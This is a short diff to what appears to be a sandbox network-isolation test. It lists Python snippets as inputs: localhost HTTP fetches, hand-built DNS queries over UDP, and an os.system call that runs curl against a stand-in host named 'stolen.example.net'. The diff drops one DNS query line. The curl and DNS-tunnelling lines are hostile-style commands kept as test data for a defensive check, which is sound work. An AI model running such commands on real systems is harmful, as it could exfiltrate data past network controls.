@@ -62,7 +62,6 @@ test('lookups that are none end nothing, and hide nothing', async () => {
       'import os, socket, urllib.request',
       'urllib.request.urlopen("http://localhost:4010/books").read()',
       's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
-      String.raw`s.sendto(bytes(12) + b"\x03api\x07library", ("127.0.0.1", 53))`,
       String.raw`s.sendto(bytes(12) + b"\x09localhost\x00", ("127.0.0.1", 53))`,
       String.raw`s.sendto(bytes(12) + b"\x09localhost", ("127.0.0.1", 53))`,
       'os.system("sleep 0.2; curl -s --max-time 2 http://stolen.example.net/")',
